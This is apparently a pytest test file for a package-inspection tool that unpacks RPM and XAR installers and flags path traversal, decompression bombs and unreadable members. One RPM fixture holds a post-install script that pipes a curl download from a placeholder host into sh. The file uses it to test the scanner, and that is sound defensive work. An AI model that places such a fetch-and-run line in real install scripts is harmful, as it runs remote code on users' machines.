import bz2
import gzip
import lzma
import struct
import zlib

import pytest

from gifthorse.inspect.filetypes import FileType
from gifthorse.inspect.identify import identify
from gifthorse.inspect.unpack import libarchive
from gifthorse.model.inspections import Reason
from tests.samples.archives import cpio_of, unfold
from tests.samples.packages import rpm_of, xar_of


def test_the_files_and_the_scripts_of_an_rpm_package_are_seen() -> None:
    package = rpm_of(gzip.compress(cpio_of({"./usr/bin/tool": b"inert"})), {"postin": b"curl http://host.invalid | sh"})
    assert identify(package, len(package), None) is FileType.OTHER_ARCHIVE
    result = unfold(package, "tool.rpm")
    assert result.files["tool.rpm > postin.sh"] == b"curl http://host.invalid | sh"
    assert result.files["tool.rpm > payload > content > usr/bin/tool"] == b"inert"
    assert result.unseen == []


def test_an_rpm_package_without_headers_is_said_to_be_unreadable() -> None:
    result = unfold(b"\xed\xab\xee\xdb\x03\0" + bytes(300), "tool.rpm")
    assert [gap.reason for gap in result.unseen] == [Reason.UNREADABLE]


@pytest.mark.parametrize(
    ("method", "pack"),
    [
        ("application/octet-stream", bytes),
        ("application/x-gzip", zlib.compress),
        ("application/x-bzip2", bz2.compress),
        ("application/x-xz", lzma.compress),
        ("application/x-lzma", lambda body: lzma.compress(body, lzma.FORMAT_ALONE)),
    ],
)
def test_members_of_a_xar_archive_come_back_whole(method, pack) -> None:
    body = b"#!/bin/sh\necho inert\n" * 20
    result = unfold(xar_of({"Scripts/postinstall": (method, pack(body))}), "Tool.pkg")
    assert result.files == {"Tool.pkg > Scripts/postinstall": body}
    assert result.unseen == []


def test_a_xar_member_that_leads_out_of_its_folder_is_found() -> None:
    result = unfold(xar_of({"../../etc/x": ("application/octet-stream", b"1")}), "Tool.pkg")
    assert "archive.traversal" in {finding.id for finding in result.findings}


@pytest.mark.parametrize(("method", "reason"), [("application/x-gzip", Reason.UNREADABLE), ("application/x-strange", Reason.UNSUPPORTED)])
def test_a_xar_member_that_cannot_be_unpacked_is_said(method: str, reason: Reason) -> None:
    result = unfold(xar_of({"a": (method, b"no stream at all")}), "Tool.pkg")
    assert [gap.reason for gap in result.unseen] == [reason]


def test_a_xar_archive_whose_contents_burst_is_said() -> None:
    bomb = zlib.compress(bytes(64 << 20))
    head = b"xar!" + struct.pack(">HHQQI", 28, 1, len(bomb), 64 << 20, 0)
    assert [gap.reason for gap in unfold(head + bomb, "Tool.pkg").unseen] == [Reason.UNREADABLE]


def test_a_file_in_an_old_compression_is_opened_by_the_systems_library_or_named() -> None:
    lz4 = bytes.fromhex("04224d18") + bytes.fromhex("6040") + b"\x82" + struct.pack("<I", 0x80000000 | 5) + b"inert" + bytes(4)
    result = unfold(lz4, "a.txt.lz4")
    if libarchive.available():
        assert result.files == {"a.txt.lz4 > a.txt": b"inert"}
    else:
        assert [gap.reason for gap in result.unseen] == [Reason.UNSUPPORTED]
